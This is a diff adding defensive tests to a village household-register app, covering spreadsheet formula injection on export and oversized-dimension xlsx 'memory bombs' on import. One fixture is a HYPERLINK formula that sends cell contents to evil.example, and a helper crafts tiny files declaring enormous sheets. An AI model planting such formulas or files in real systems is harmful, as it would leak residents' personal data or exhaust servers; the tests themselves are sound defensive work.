@@ -27,7 +27,7 @@ from points.register.import_export import (
 )
 from points.register.services import household_archive
 from points.register.validators import make_id_number
-from tests.factories import make_village
+from tests.factories import make_household, make_village
 
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 ID_1 = make_id_number("11010519580101001")
@@ -724,3 +724,75 @@ def test_export_view_does_not_serve_another_village(cast, client_for):
     assert "Content-Disposition" not in response
     assert "village" in response.context["form"].errors
     assert "陈玉兰" not in response.content.decode()
+
+
+# --- formula injection (CWE-1236) ----------------------------------------------------------------------------------
+
+PLANTED = '=HYPERLINK("http://evil.example/?"&H2&I2,"点击查看")'
+
+
+def test_export_writes_formula_like_text_as_quoted_text(cast):
+    """A name or address typed like a formula stays text in the committee's spreadsheet: no cell of the export is
+    a formula, every such cell carries Excel's quote prefix, and the text is exactly what was typed."""
+    make_household(cast.village_a, number="077", head=PLANTED, members=[("@SUM(1,2)", "spouse", "F")])
+    make_household(cast.village_a, number="078", head="-2+3 王")
+
+    exported = register_export(village=cast.village_a, actor=cast.committee_a)
+
+    sheet_xml = zipfile.ZipFile(io.BytesIO(exported)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml  # no formula anywhere in the file
+    sheet = load_workbook(io.BytesIO(exported)).active
+    cells = {c.value: c for r in sheet.iter_rows() for c in r if isinstance(c.value, str)}
+    for text in (PLANTED, "@SUM(1,2)", "-2+3 王"):
+        assert cells[text].data_type == "s"
+        assert cells[text].quotePrefix is True
+    assert cells["张三丰"].quotePrefix is False  # ordinary text is left alone
+
+
+def test_an_export_with_formula_like_names_imports_back_unchanged(cast):
+    make_household(cast.village_a, number="077", head=PLANTED)
+    exported = register_export(village=cast.village_a, actor=cast.committee_a)
+    fresh = make_village(cast.township, "新河村", "XH03")
+
+    register_import(village=fresh, name="export.xlsx", data=exported, actor=cast.township_staff)
+
+    assert Member.objects.filter(village=fresh, name=PLANTED).exists()
+
+
+# --- a sheet that declares its own size (a memory bomb in 1.5 KB) ------------------------------------------------
+
+
+def declared(data: bytes, dimension: str, extra_rows: str = "") -> bytes:
+    """``data`` (an .xlsx) with its first sheet's ``<dimension>`` replaced and ``extra_rows`` appended: what a
+    hostile file can say about itself while staying a few kilobytes."""
+    source = zipfile.ZipFile(io.BytesIO(data))
+    entries = {}
+    for name in source.namelist():
+        content = source.read(name)
+        if name == "xl/worksheets/sheet1.xml":
+            content = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), content)
+            content = content.replace(b"</sheetData>", extra_rows.encode() + b"</sheetData>")
+        entries[name] = content
+    return _zip(entries)
+
+
+def test_a_sheet_declaring_16384_columns_is_read_to_a_bounded_width(cast):
+    data = declared(to_xlsx(GOOD_ROWS), "A1:XFD1048576")
+    assert len(data) < 8 * 1024
+
+    rows = register_io._read_rows("bomb.xlsx", data)
+
+    assert max(len(r) for r in rows) <= register_io.MAX_COLUMNS
+    parsed = register_io.register_import_parse(village=cast.village_a, name="bomb.xlsx", data=data)
+    assert len(parsed) == 3  # the real rows still import
+
+
+def test_a_sheet_with_one_cell_far_below_is_refused_without_reading_every_blank_row(cast):
+    far = register_io.MAX_READ_ROWS + 50
+    cell = f'<row r="{far}"><c r="A{far}" t="inlineStr"><is><t>999</t></is></c></row>'
+    data = declared(to_xlsx(GOOD_ROWS), f"A1:I{far}", cell)
+    assert len(data) < 8 * 1024
+
+    errors = refused(cast.village_a, "far.xlsx", data, cast.committee_a)
+
+    assert_errors(errors, [(0, "", "行数过多")])
